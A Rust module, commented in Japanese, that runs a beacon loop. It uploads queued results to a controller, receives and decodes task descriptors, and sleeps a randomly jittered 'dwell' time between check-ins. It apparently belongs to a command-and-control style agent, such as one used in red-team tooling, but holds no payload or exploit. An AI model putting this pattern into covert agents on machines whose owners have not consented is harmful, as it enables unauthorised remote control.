//! BeaconLoop - コントローラとの送受信ループ
//!
//! # フロー（1 サイクル）
//! 1. ResultSink を drain して結果マップを組み立てる
//! 2. Transport::exchange() で送信し、応答を受け取る
//! 3. decode_batch() でタスクに変換（壊れた descriptor は個別にスキップ）
//! 4. TaskQueue に積む
//! 5. 現在の mean dwell で指数分布からスリープ時間を引いて待つ
//!
//! ループ先頭で `running == false` を見たら終了します。

use std::sync::Arc;

use tracing::{debug, info, warn};

use crate::codec::{decode_batch, encode_request_body};
use crate::observability::CycleReport;
use crate::ports::{DwellSampler, Transport};
use crate::queue::{ResultSink, TaskQueue};
use crate::state::ConfigState;

pub struct BeaconLoop {
    transport: Arc<dyn Transport>,
    queue: Arc<TaskQueue>,
    sink: Arc<ResultSink>,
    config: ConfigState,
    dwell: Box<dyn DwellSampler>,
}

impl BeaconLoop {
    pub fn new(
        transport: Arc<dyn Transport>,
        queue: Arc<TaskQueue>,
        sink: Arc<ResultSink>,
        config: ConfigState,
        dwell: Box<dyn DwellSampler>,
    ) -> Self {
        Self {
            transport,
            queue,
            sink,
            config,
            dwell,
        }
    }

    /// One send/receive/enqueue pass, without the sleep.
    pub async fn run_cycle(&self) -> CycleReport {
        let batch = self.sink.drain();
        let body = encode_request_body(&batch);

        let response = match self.transport.exchange(body).await {
            Ok(response) => response,
            Err(err) => {
                warn!(error = %err, kept = batch.len(), "controller exchange failed");
                self.sink.restore(batch);
                return CycleReport::transport_failed();
            }
        };
        let uploaded = batch.len();

        let decoded = match decode_batch(&response) {
            Ok(decoded) => decoded,
            Err(err) => {
                warn!(error = %err, "discarding controller response");
                return CycleReport::malformed_response(uploaded);
            }
        };
        for (index, err) in &decoded.rejected {
            warn!(index, error = %err, "skipping task descriptor");
        }
        let rejected = decoded.rejected.len();
        let received = self.queue.extend(decoded.tasks);

        CycleReport::completed(uploaded, received, rejected)
    }

    /// Cycle until a `configure` task turns `running` off.
    pub async fn run(&mut self) {
        info!("beacon loop started");
        while self.config.is_running() {
            let report = self.run_cycle().await;
            info!(
                uploaded = report.uploaded,
                received = report.received,
                rejected = report.rejected,
                outcome = %report.outcome,
                "beacon cycle"
            );

            let mean_dwell = self.config.snapshot().mean_dwell();
            let dwell = self.dwell.sample(mean_dwell);
            debug!(mean_dwell, dwell_ms = dwell.as_millis() as u64, "dwelling");
            tokio::select! {
                _ = tokio::time::sleep(dwell) => {}
                _ = self.config.wait_stopped() => {}
            }
        }
        info!("beacon loop stopped");
    }
}
